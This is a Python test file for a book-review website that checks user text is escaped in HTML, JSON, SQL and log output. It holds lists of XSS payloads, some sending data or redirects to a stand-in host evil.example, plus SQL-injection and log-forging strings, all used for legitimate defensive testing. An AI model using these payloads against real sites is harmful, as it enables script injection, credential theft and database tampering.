"""Whatever readers and catalogues say, and wherever it is shown, it stays text: for HTML, JSON, SQL and the log."""

import itertools
import json
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

from tests.fixture_types import AddBook, Select, Visit
from tests.fuzz.corpus import MARKUP, SQL
from tests.markup import addresses, elements, scripts
from tests.site import Site

HOSTILE = [
    *MARKUP,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<a href='javascript:alert(1)'>Dune</a>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><input name=password>",
    "<style>*{background:url(//evil.example)}</style>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\" onfocus=alert(1) autofocus x=\"",
    "' style='background:url(//evil.example)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028</script>\u2029<script>alert(1)//",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\u017fcript>alert(1)</\u017fcript>",
]  # fmt: skip
# How often these are there depends on how long a text is, on which of its words were searched for, on what is wrong.
SETTING = {*"text tspan p br mark div details summary path rect circle line g svg span".split(), "input aria-invalid"}
ISBN = "9780441172719"
Pages = Callable[[str], dict[str, str]]


@pytest.fixture
def pages(visit: Visit, add_book: AddBook, select: Select) -> Pages:
    """The pages on which somebody reads what somebody else wrote, by what they are: with this text in every place."""
    add_book()
    add_book("9780141439518")  # the author's other book
    bob = visit().registered("Bob")
    bob.review(ISBN, 4, "Sand.")
    alice = visit().registered("Alice")
    select("UPDATE readers SET is_moderator = true WHERE name = 'Alice'")
    review = f"/reviews/{select('SELECT id FROM reviews')}"
    alice.submit(f"{review}/report", reason="Spam")

    numbers = itertools.count(1)

    def somebody() -> Site:
        """At an address of their own, from which few wrong passwords come."""
        visitor = visit()
        visitor.client.environ_base["REMOTE_ADDR"] = f"192.0.2.{next(numbers)}"
        return visitor

    def show(text: str) -> dict[str, str]:
        select("UPDATE books SET title = :text, author = :text, publisher = :text, description = :text", text=text)
        select("UPDATE books SET language = left(:text, 35), series = left(:text, 500)", text=text)
        select("UPDATE readers SET name = left(:text, 64) WHERE name_key = 'bob'", text=text)
        select("UPDATE reviews SET text = :text", text=text)
        select("UPDATE review_reports SET reason = :text", text=text)
        quoted = quote(text, safe="")
        answers = {
            "book": alice.get(f"/books/{ISBN}"),
            "author": alice.get(f"/authors/{quoted}"),
            "series": alice.get(f"/series/{quoted}"),
            "profile": alice.get("/readers/bob"),
            "results": alice.get(f"/search?q={ISBN}"),
            "search": alice.get(f"/search?narrow=1&q={quoted}&language={quoted}&order={quoted}&page={quoted}"),
            "moderation": alice.get("/moderation"),
            "hiding": alice.get(f"/moderation{review}/hide"),
            "reporting": alice.get(f"{review}/report"),
            "own review": bob.get(f"/books/{ISBN}/review/edit"),
            "deleting it": bob.get(f"/books/{ISBN}/review/delete"),
            "own book": bob.get(f"/books/{ISBN}"),
            "own account": bob.get("/account"),
            "no such book": alice.get(f"/books/{quoted}"),
            "no such page": alice.get(f"/{quoted}"),
            "a name refused": somebody().submit("/register", username=text, password="x", confirmation="y", next=text),
            "a log-in refused": somebody().submit("/login", username=text, password="x", next="/" + text),
            "a review refused": alice.submit(f"/books/{ISBN}", f"/books/{ISBN}/review", rating=text, text=text),
        }
        assert {answer.status_code for answer in answers.values()} <= {200, 404, 422}
        assert answers["book"].status_code == answers["profile"].status_code == answers["moderation"].status_code == 200
        return {what: answer.text for what, answer in answers.items()}

    return show


@pytest.mark.parametrize(
    "texts",
    [
        pytest.param(HOSTILE[::6], id="some"),
        pytest.param([text for number, text in enumerate(HOSTILE) if number % 6], id="others", marks=pytest.mark.slow),
    ],
)
def test_no_text_becomes_markup(pages: Pages, subtests: pytest.Subtests, texts: list[str]) -> None:
    harmless = {what: elements(page) for what, page in pages("Dune Messiah, by Frank Herbert").items()}
    known = {name for names in harmless.values() for name in names} | SETTING
    for text in texts:
        if "\0" in text:  # is stored nowhere
            continue
        hostile = pages(text)
        for what, page in hostile.items():
            with subtests.test(repr(text), what=what):
                more = {name for name, count in elements(page).items() if count > harmless[what][name]}
                assert more <= known
                assert {name for name in more if name not in SETTING and name.split()[0] not in SETTING} == set()
                assert all(re.match(r"[?#]|/(?![/\\\\])|https://openlibrary\.org/", one) for one in addresses(page))
        with subtests.test(repr(text), what="linked data"):
            [linked_data] = filter(None, scripts(hostile["book"]))
            assert json.loads(linked_data)["name"] == json.loads(linked_data)["author"]["name"] == text


def test_an_answer_for_programs_is_no_page(alice: Site, subtests: pytest.Subtests) -> None:
    for text in HOSTILE:
        for address in (f"/api/{quote(text)}", f"/api/search?q={quote(text)}", f"/search/suggestions?q={quote(text)}"):
            with subtests.test(address):
                response = alice.get(address)
                assert response.mimetype == "application/json"
                assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_no_text_becomes_sql(alice: Site, dune: str, select: Select, subtests: pytest.Subtests) -> None:
    """Nothing is an error, and nothing is found, changed or gone by it."""
    alice.review(dune, 4)
    for text in [*SQL, "1' AND (SELECT 1 FROM pg_sleep(2)) IS NULL --", "0) OR (SELECT true"]:
        with subtests.test(text):
            alice.submit(f"/books/{dune}/review/edit", rating="4", text=text)
            assert select("SELECT text FROM reviews") == text
            for name in ("q", "page", "limit", "order", "language", "year_from", "has_reviews", "verbatim"):
                response = alice.client.get("/api/search", query_string={"q": "dune"} | {name: text})
                assert response.status_code in (200, 422), name
            found = alice.client.get("/api/search", query_string={"q": f"zzzz{text}"}).get_json()
            assert found is not None
            assert found["results"] == []
            for address in (f"/books/{quote(text)}", f"/authors/{quote(text)}x", f"/readers/{quote(text)}x"):
                assert alice.get(address).status_code in (404, 308)
            refused = alice.submit("/account/password", old_password=text, password="long enough", confirmation=text)
            assert refused.status_code == 422
    assert select("SELECT count(*) FROM readers") == select("SELECT count(*) FROM reviews") == 1


FORGED = ["x\n{}", "x\r\n[info] forged", "\x1b[2J", "\u2028", '","event":"forged', "\ud800", "%s%n"]


@pytest.mark.parametrize("text", FORGED)
def test_no_name_forges_a_line_of_the_log(visit: Visit, log: list[str], text: str) -> None:
    sent: Any = text.encode("utf-8", "surrogatepass")
    visit().submit("/login", username=sent, password="wrong", next=sent)
    visit().submit("/register", username=sent, password="wrong", confirmation="wrong")
    assert len(log) >= 4
    for line in log:
        assert line.isascii()
        assert line.isprintable()
        assert json.loads(line)["event"] != "forged"
